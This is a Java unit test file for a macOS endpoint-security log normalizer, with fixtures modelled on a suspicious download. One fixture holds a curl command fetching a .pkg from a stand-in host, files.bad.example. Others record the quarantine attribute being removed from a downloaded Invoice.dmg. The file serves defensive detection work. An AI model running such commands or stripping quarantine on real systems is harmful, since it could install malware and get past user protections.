package io.clicktrail.normalizer.macos;

import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.event.Event;
import io.clicktrail.event.EventKind;
import io.clicktrail.event.MarkAction;
import io.clicktrail.normalizer.linux.LinuxJsonTest;
import io.clicktrail.normalizer.parse.EventFacts;
import io.clicktrail.normalizer.parse.TestNormalizer;
import io.clicktrail.normalizer.raw.Reason;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EndpointSecurityTest {

    private record Story(String name, String message, String expected) {}

    private static final String HOST = "\"host\":{\"name\":\"mac-3.corp.example\",\"hostname\":\"mac-3.corp.example\","
            + "\"domain\":\"corp.example\",\"os\":{\"type\":\"macos\"}}";

    private static final List<Story> STORIES = List.of(
            new Story("exec", EndpointSecurityFixtures.EXEC, """
                    {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec",\
                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
                    "process":{"entity_id":"mac-3.corp.example:951:2202","pid":951,\
                    "start":"2026-03-02T10:00:05.701234Z","executable":"/usr/bin/curl","name":"curl",\
                    "command_line":"curl -o \\"/Users/ada/Downloads/my report.pkg\\" https://files.bad.example/a",\
                    "working_directory":"/Users/ada","parent":{"entity_id":"mac-3.corp.example:700:1999","pid":700,\
                    "executable":"/bin/zsh"},"responsible":{"entity_id":"mac-3.corp.example:650:1800","pid":650},\
                    "code_signature":{"signing_id":"com.apple.curl"},"session_id":"100001"}}"""),
            new Story("create", EndpointSecurityFixtures.CREATE, """
                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"create",\
                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
                    "session_id":"100001"},\
                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg.part","name":"Invoice.dmg.part",\
                    "extension":"part"}}"""),
            new Story("rename", EndpointSecurityFixtures.RENAME, """
                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"rename",\
                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
                    "session_id":"100001"},\
                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
                    "original_path":"/Users/ada/Downloads/Invoice.dmg.part"}}"""),
            new Story("close", EndpointSecurityFixtures.CLOSE, """
                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_write","code":"close",\
                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
                    "session_id":"100001"},\
                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg"}}"""),
            new Story("setextattr", EndpointSecurityFixtures.SET_QUARANTINE, """
                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"setextattr",\
                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
                    "session_id":"100001"},\
                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
                    "mark":"set"}}"""),
            new Story("deleteextattr", EndpointSecurityFixtures.DELETE_QUARANTINE, """
                    {"@timestamp":"2026-03-02T10:00:05.801234Z","event":{"action":"file_mark","code":"deleteextattr",\
                    "dataset":"macos.eslogger"},%s,"user":{"id":"501"},\
                    "process":{"entity_id":"mac-3.corp.example:913:2101","pid":913,\
                    "executable":"/Applications/Firefox.app/Contents/MacOS/firefox","name":"firefox",\
                    "parent":{"entity_id":"mac-3.corp.example:1:1","pid":1},\
                    "responsible":{"entity_id":"mac-3.corp.example:913:2101","pid":913},\
                    "code_signature":{"signing_id":"org.mozilla.firefox","team_id":"43AQ936H96"},\
                    "session_id":"100001"},\
                    "file":{"path":"/Users/ada/Downloads/Invoice.dmg","name":"Invoice.dmg","extension":"dmg",\
                    "mark":"removed"}}"""));

    private final TestNormalizer reader = new TestNormalizer();

    @TestFactory
    Stream<DynamicTest> readsEveryMessageWithTokensOfBothShapes() {
        return STORIES.stream()
                .map(story -> DynamicTest.dynamicTest(story.name(), () -> {
                    String shipped = EndpointSecurityFixtures.shipped(story.message());
                    assertThat(EventFacts.of(reader.event(shipped)))
                            .isEqualTo(story.expected().formatted(HOST));
                    assertThat(EventFacts.of(reader.event(EndpointSecurityFixtures.withArrays(shipped))))
                            .isEqualTo(story.expected().formatted(HOST));
                }));
    }

    @Test
    void readsJamfProtectsTelemetryWithItsHostAndItsIdentities() {
        assertThat(EventFacts.of(reader.event(EndpointSecurityFixtures.jamf(EndpointSecurityFixtures.EXEC))))
                .isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:05.701234Z","event":{"action":"process_start","code":"exec",\
                "dataset":"macos.jamf-protect"},"host":{"name":"mac-3.corp.example","hostname":"mac-3.corp.example",\
                "domain":"corp.example","id":"C02X","ip":["10.1.2.33"],"os":{"type":"macos"}},"user":{"id":"501"},\
                "process":{"entity_id":"U-951-2202","pid":951,"start":"2026-03-02T10:00:05.701234Z",\
                "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/Users/ada/Downloads/my \
                report.pkg\\" https://files.bad.example/a","working_directory":"/Users/ada",\
                "parent":{"entity_id":"U-700-1999","pid":700,"executable":"/bin/zsh"},\
                "responsible":{"entity_id":"U-650-1800","pid":650},"code_signature":{"signing_id":"com.apple.curl"},\
                "session_id":"100001"}}\
                """);
    }

    @Test
    void readsAMessageThatNamesNoHost() {
        Event event = reader.event(EndpointSecurityFixtures.EXEC);

        assertThat(event.getHost()).isNull();
        assertThat(event.getProcess().getEntityId()).isEqualTo(":951:2202");
    }

    @Test
    void doesNotTakeAClosedFileForAWriteUnlessItWasChanged() {
        assertThat(reader.ignored(EndpointSecurityFixtures.CLOSE.replace("\"modified\":true", "\"modified\":false"))
                        .dataset())
                .isEqualTo("macos.eslogger");
    }

    @Test
    void readsACreatedFileThatWasThereBefore() {
        String message = EndpointSecurityFixtures.message(
                907,
                "\"create\":{\"destination_type\":0,\"destination\":{\"existing_file\":{\"path\":\"/private"
                        + "/tmp/a\"}}}");

        assertThat(reader.event(message).getFile().getPath()).isEqualTo("/private/tmp/a");
    }

    @Test
    void ignoresOtherAttributesAndOtherEvents() {
        assertThat(reader.ignored(EndpointSecurityFixtures.SET_QUARANTINE.replace(
                                "com.apple.quarantine", "com.apple.lastuseddate#PS"))
                        .dataset())
                .isEqualTo("macos.eslogger");
        assertThat(reader.ignored(EndpointSecurityFixtures.message(908, "\"fork\":{\"child\":{}}"))
                        .dataset())
                .isEqualTo("macos.eslogger");
    }

    @Test
    void readsAChangeOfModeAndClones() {
        Event mode = reader.event(EndpointSecurityFixtures.message(
                909, "\"setmode\":{\"mode\":493,\"target\":{\"path\":\"/Users/ada/a.sh\"}}"));
        Event clone = reader.event(EndpointSecurityFixtures.message(
                910,
                "\"clone\":{\"source\":{\"path\":\"/Volumes/I/I.app\"},"
                        + "\"target_dir\":{\"path\":\"/Applications\"},\"target_name\":\"I.app\"}"));

        assertThat(mode.getKind()).isEqualTo(EventKind.FILE_MODE);
        assertThat(mode.getFile().getMode()).isEqualTo("0755");
        assertThat(clone.getFile().getPath()).isEqualTo("/Applications/I.app");
        assertThat(clone.getFile().getOriginalPath()).isEqualTo("/Volumes/I/I.app");
    }

    @Test
    void readsLogons() {
        Event window = reader.event(EndpointSecurityFixtures.message(
                911, "\"lw_session_login\":{\"username\":\"ada\",\"graphical_session_id\":257}"));
        Event ssh = reader.event(EndpointSecurityFixtures.message(
                912,
                "\"openssh_login\":{\"success\":true,\"username\":\"ada\","
                        + "\"source_address\":\"10.1.2.17\",\"source_address_type\":1}"));

        assertThat(window.getLogon().getType()).isEqualTo(2);
        assertThat(window.getUser().getName()).isEqualTo("ada");
        assertThat(ssh.getLogon().getIp()).isEqualTo("10.1.2.17");
    }

    /** Filebeat, Vector and others write the host into the record that they read from a file. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"host\":{\"name\":\"MAC-9.corp.example\"}",
                "\"host\":\"mac-9.corp.example\"",
                "\"hostname\":\"mac-9.corp.example\"",
                "\"agent\":{\"hostname\":\"mac-9.corp.example\"}"
            })
    void takesTheHostThatTheCollectorWroteIntoTheRecord(String member) {
        String link = MacLogsTest.UNIFIED.formatted("LSOpenURLsWithRole opening https://bad.example/a with Safari");
        for (String record : List.of(EndpointSecurityFixtures.EXEC, link, LinuxJsonTest.LAUREL)) {
            String read = "{" + member + ","
                    + record.substring(record.indexOf('{') + 1).replaceFirst("\"NODE\":[^,]*,", "");
            assertThat(reader.event(read).getHost().getName()).isEqualTo("mac-9.corp.example");
        }
    }

    @Test
    void rejectsAMessageWithoutATime() {
        assertThat(reader.rejected(EndpointSecurityFixtures.CLOSE.replace("2026-03-02T10:00:05.8", "x"))
                        .reason())
                .isEqualTo(Reason.BAD_TIME);
    }

    @Test
    void keepsTheSourceOfTheMark() {
        assertThat(reader.event(EndpointSecurityFixtures.SET_QUARANTINE)
                        .getFile()
                        .getMark())
                .isEqualTo(MarkAction.SET);
        assertThat(reader.event(EndpointSecurityFixtures.DELETE_QUARANTINE)
                        .getFile()
                        .getMark())
                .isEqualTo(MarkAction.REMOVED);
    }
}
